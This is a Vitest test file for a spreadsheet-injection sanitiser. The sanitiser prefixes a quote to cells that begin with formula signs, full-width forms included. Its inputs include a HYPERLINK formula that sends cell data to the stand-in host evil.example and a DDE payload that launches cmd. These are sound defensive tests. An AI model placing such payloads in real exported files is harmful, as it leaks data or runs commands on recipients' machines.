import { describe, expect, it } from 'vitest';
import { spreadsheetSafe } from '../../src/reports/spreadsheet-safe.js';

describe('spreadsheetSafe', () => {
  it('prefixes a single quote to text a spreadsheet would run as a formula', () => {
    for (const text of [
      '=HYPERLINK("https://evil.example/?"&C2;"x")',
      '+7 дней',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
      '=',
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM(A1)', // full-width forms
    ]) {
      expect(spreadsheetSafe(text)).toBe(`'${text}`);
    }
  });

  it('leaves other text as it is, including text with those signs further in', () => {
    for (const text of ['', 'Министерство спорта', 'a=b', ' =1+1', "'=already quoted", '2026-W48', '3.1', 'не выполнено']) {
      expect(spreadsheetSafe(text)).toBe(text);
    }
  });

  it('keeps numbers numbers, negative ones too, and leaves other values alone', () => {
    expect(spreadsheetSafe(-3)).toBe(-3);
    expect(spreadsheetSafe(0)).toBe(0);
    expect(spreadsheetSafe(3)).toBe(3);
    expect(spreadsheetSafe(-0.5)).toBe(-0.5);
    expect(spreadsheetSafe(null)).toBeNull();
    expect(spreadsheetSafe(undefined)).toBeUndefined();
    // Text that only looks like a negative number is text a user typed: it is quoted.
    expect(spreadsheetSafe('-3')).toBe("'-3");
  });
});
